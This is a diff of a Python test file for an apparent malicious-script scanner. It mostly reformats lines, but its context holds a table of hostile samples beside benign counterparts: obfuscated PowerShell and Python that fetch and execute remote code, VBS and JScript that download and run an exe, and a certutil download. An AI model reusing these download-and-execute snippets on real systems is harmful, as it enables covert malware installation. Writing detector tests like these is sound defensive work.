@@ -1,5 +1,7 @@
 """Scripts: for each finding a small harmless script that shows it and one of the honest kind that does not."""
 
+# ruff: noqa: E501  a row of a table is one line
+
 from __future__ import annotations
 
 import base64
@@ -70,11 +72,11 @@ CASES: list[tuple[str, str, str, str]] = [
     ("script-runs-fetched-code-covertly", "ps1", "&('ie'+'x') (New-Object Net.WebClient).DownloadString('http://1.2.3.4/x')", "(New-Object Net.WebClient).DownloadString('http://1.2.3.4/x') | Out-Null"),
     ("script-runs-fetched-code-covertly", "py", "import base64,requests\nexec(requests.get(base64.b64decode('aHR0cDovL2V4YW1wbGUub3JnL3g=').decode()).text)", "import requests\nprint(requests.get('http://example.org/x').text)"),
     ("script-starts-fetched-program-covertly", "vbs",
-     'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://example.org/a", False\nh.Send\nSet s = CreateObject("ADODB." & "Stream")\ns.Write h.responseBody\n'
+     'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://example.org/a", False\nh.Send\nSet s = CreateObject("ADODB." & "Stream")\ns.Write h.responseBody\n'  # noqa: ISC004
      's.SaveToFile "C:\\a.exe", 2\nCreateObject("WScript.Shell").Run "C:\\a.exe"',
      'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://example.org/a", False\nh.Send\nWScript.Echo h.responseText'),
     ("script-starts-fetched-program-covertly", "js",
-     'var h=new ActiveXObject("MSXML2.XMLHTTP");h["op"+"en"]("GET","http://example.org/a",0);h.send();var s=new ActiveXObject("ADODB.Stream");s.open();s.write(h.responseBody);'
+     'var h=new ActiveXObject("MSXML2.XMLHTTP");h["op"+"en"]("GET","http://example.org/a",0);h.send();var s=new ActiveXObject("ADODB.Stream");s.open();s.write(h.responseBody);'  # noqa: ISC004
      's.saveToFile("C:\\\\a.exe");new ActiveXObject("WScript.Shell").Run("C:\\\\a.exe")',
      'var h=new ActiveXObject("MSXML2.XMLHTTP");h.open("GET","http://example.org/a",0);h.send();WScript.Echo(h.responseText)'),
     ("script-starts-fetched-file", "bat", "certutil -urlcache -f https://example.org/a.exe a.exe\na.exe", "certutil -hashfile a.exe\na.exe"),
@@ -124,7 +126,9 @@ CASES: list[tuple[str, str, str, str]] = [
 ]  # fmt: skip
 
 
-@pytest.mark.parametrize(("id_", "language", "bad", "good"), CASES, ids=[f"{c[0]}-{c[1]}-{n}" for n, c in enumerate(CASES)])
+@pytest.mark.parametrize(
+    ("id_", "language", "bad", "good"), CASES, ids=[f"{c[0]}-{c[1]}-{n}" for n, c in enumerate(CASES)]
+)
 def test_finding(id_: str, language: str, bad: str, good: str) -> None:
     assert id_ in ids(language, bad)
     if good:
@@ -196,7 +200,9 @@ FOLDED: list[tuple[str, str, str, str]] = [
 ]  # fmt: skip
 
 
-@pytest.mark.parametrize(("language", "source", "name", "wanted"), FOLDED, ids=[f"{c[0]}-{n}" for n, c in enumerate(FOLDED)])
+@pytest.mark.parametrize(
+    ("language", "source", "name", "wanted"), FOLDED, ids=[f"{c[0]}-{n}" for n, c in enumerate(FOLDED)]
+)
 def test_folding(language: str, source: str, name: str, wanted: str) -> None:
     calls = unfold.fold(source.encode(), language).calls
     assert [str(call.args[0]) for call in calls if call.name == name] == [wanted]
@@ -208,7 +214,11 @@ def test_the_folded_source_has_the_values_in_place() -> None:
 
 
 def test_layers_become_members() -> None:
-    members = [one for one in look("py", f"import base64,zlib\nexec(zlib.decompress(base64.b64decode('{PY_LAYER}')))") if isinstance(one, Member)]
+    members = [
+        one
+        for one in look("py", f"import base64,zlib\nexec(zlib.decompress(base64.b64decode('{PY_LAYER}')))")
+        if isinstance(one, Member)
+    ]
     assert Member(name="layer 1.py", data=b"print('this is only a marker of a test')", relation="decoded") in members
 
 
@@ -259,7 +269,11 @@ def cage() -> Iterator[Cage]:
 
 @pytest.mark.parametrize(
     ("language", "source", "id_"),
-    [(case[1], case[2], case[0]) for case in CASES if case[0] in {"script-runs-decoded-code", "script-encrypts-files", "script-obeys-visitor"}],
+    [
+        (case[1], case[2], case[0])
+        for case in CASES
+        if case[0] in {"script-runs-decoded-code", "script-encrypts-files", "script-obeys-visitor"}
+    ],
 )
 def test_in_the_cage(cage: Cage, language: str, source: str, id_: str) -> None:
     with sheet(source.encode()) as fd:
